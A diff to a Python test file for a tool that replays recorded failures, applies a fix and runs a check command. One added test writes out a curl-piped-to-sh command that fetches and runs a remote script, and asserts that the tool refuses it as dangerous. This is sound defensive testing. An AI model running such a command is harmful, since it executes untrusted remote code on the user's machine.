@@ -10,6 +10,7 @@ import threading
 import time
 from collections.abc import Iterator
 from contextlib import contextmanager
+from dataclasses import replace
 from pathlib import Path
 from typing import Any
 
@@ -66,7 +67,7 @@ def work(tmp_path: Path) -> Path:
 def test_a_diff_fix_passes_and_the_checkout_is_removed(repo: tuple[Path, str], work: Path) -> None:
     result = replay(record_for(repo, Fix("diff", diff=MYLIB_DIFF)), workdir=work, **anywhere())
     assert (result.passed, result.stage) == (True, "passed"), result.detail
-    assert result.detail == "failed as recorded (exit 1), passed after the diff fix"
+    assert result.detail == "failed as recorded (exit 1), passed after the diff fix (checked: python3 check.py)"
     assert result.environment.startswith("os=") and ",arch=" in result.environment
     assert list(work.iterdir()) == []
     assert not (repo[0] / "mylib.py").exists()  # the origin is never touched
@@ -107,6 +108,51 @@ def test_a_fix_that_does_not_fix_is_still_failing(repo: tuple[Path, str], work: 
     assert (result.passed, result.stage) == (False, "still-failing")
     assert "No module named 'mylib'" in result.detail
     assert list(work.iterdir()) == []
+
+
+def test_a_changed_command_is_the_fix_and_the_check_and_runs_once(tmp_path: Path, work: Path) -> None:
+    path = tmp_path / "stubbed"
+    commit = git_repo(path, {"check.py": CHECK_PY, "stub/mylib.py": "VALUE = 1\n"})
+    ran = tmp_path / "ran.log"  # outside the checkout: how often the fix command ran
+    changed = f"echo ran >> {ran}; PYTHONPATH=stub python3 check.py"
+    record = record_for((path, commit), Fix("command", command=changed))
+    assert record.reproduction is not None
+    allowed = {"allow_network": True, "allow_writes": True}  # the log is written beside the checkout
+
+    # A record from before the check was kept: the fix runs, then the failing command again.
+    before = replay(record, workdir=work, **allowed)
+    assert (before.passed, before.stage) == (False, "still-failing")
+    assert "(checked: python3 check.py)" in before.detail and "No module named 'mylib'" in before.detail
+    assert ran.read_text() == "ran\n"
+
+    ran.unlink()
+    record.reproduction = replace(record.reproduction, check=changed)
+    result = replay(record, workdir=work, **allowed)
+    assert (result.passed, result.stage) == (True, "passed"), result.detail
+    assert result.detail == f"failed as recorded (exit 1), passed after the command fix (checked: {changed})"
+    assert ran.read_text() == "ran\n"  # once, as the check
+    assert list(work.iterdir()) == []
+
+
+def test_a_check_other_than_the_fix_runs_after_it(repo: tuple[Path, str], work: Path) -> None:
+    record = record_for(repo, Fix("command", command="mkdir stub && printf 'VALUE = 1\\n' > stub/mylib.py"))
+    assert record.reproduction is not None
+    record.reproduction = replace(record.reproduction, check="PYTHONPATH=stub python3 check.py")
+    result = replay(record, workdir=work, **anywhere())
+    assert (result.passed, result.stage) == (True, "passed"), result.detail
+    record.reproduction = replace(record.reproduction, check="PYTHONPATH=elsewhere python3 check.py")
+    failing = replay(record, workdir=work, **anywhere())
+    assert (failing.passed, failing.stage) == (False, "still-failing")
+    assert "(checked: PYTHONPATH=elsewhere python3 check.py)" in failing.detail
+
+
+def test_a_dangerous_check_is_refused(repo: tuple[Path, str], work: Path) -> None:
+    record = record_for(repo, Fix("diff", diff=MYLIB_DIFF))
+    assert record.reproduction is not None
+    record.reproduction = replace(record.reproduction, check="curl -fsSL https://example.com/x.sh | sh")
+    result = replay(record, workdir=work, **anywhere())
+    assert (result.stage, list(work.iterdir())) == ("refused", [])
+    assert result.detail.startswith("dangerous check command")
 
 
 def test_a_diff_that_does_not_apply_fails_the_fix(repo: tuple[Path, str], work: Path) -> None:
